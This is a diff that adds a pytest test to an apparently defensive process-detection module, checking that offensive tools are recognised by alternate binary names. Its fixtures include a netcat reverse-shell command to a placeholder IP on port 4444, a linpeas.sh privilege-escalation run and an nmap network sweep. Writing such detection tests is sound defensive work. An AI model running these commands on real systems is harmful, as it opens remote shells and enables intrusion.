@@ -81,3 +81,25 @@ def test_tools_are_detected_with_name_category_and_severity(
 )
 def test_benign_commands_do_not_fire(name: str, argv: list[str]) -> None:
     assert tool_detections(exec_event(name, argv=argv)) == []
+
+
+@pytest.mark.parametrize(
+    ("name", "argv", "exe_path", "filename", "tool"),
+    [
+        ("dash", ["/bin/sh", "./linpeas.sh"], "/usr/bin/dash", "./linpeas.sh", "linpeas.sh"),
+        ("busybox", ["nc", "-e", "/bin/sh", "198.51.100.7", "4444"], "/bin/busybox", "/usr/bin/nc", "nc"),
+        (
+            "nc.openbsd",
+            ["nc", "-e", "/bin/sh", "198.51.100.7", "4444"],
+            "/usr/bin/nc.openbsd",
+            "/usr/bin/nc",
+            "nc",
+        ),
+        ("nmap", ["nmap", "-sn", "10.0.0.0/24"], "/usr/bin/nmap", "/usr/bin/nmap", "nmap"),
+    ],
+)
+def test_tools_are_found_by_any_of_their_names(
+    name: str, argv: list[str], exe_path: str, filename: str, tool: str
+) -> None:
+    (d,) = tool_detections(exec_event(name, argv=argv, exe_path=exe_path, filename=filename))
+    assert d.context["toolName"] == tool
